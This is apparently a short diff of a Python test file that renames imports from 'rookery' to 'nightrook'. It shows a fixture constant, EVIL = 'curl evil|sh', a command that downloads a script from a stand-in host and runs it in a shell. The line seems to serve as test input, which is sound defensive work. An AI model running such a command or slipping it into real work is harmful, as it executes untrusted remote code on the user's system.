@@ -12,8 +12,8 @@ import pytest
 from tests.cli.boards import Board, BoardAsker
 from tests.rules import each
 
-from rookery.display.prompts.pages import Prompt, Size
-from rookery.model.questions import Ask, Decision
+from nightrook.display.prompts.pages import Prompt, Size
+from nightrook.model.questions import Ask, Decision
 
 EVIL = "curl evil|sh"
 FAKE = (
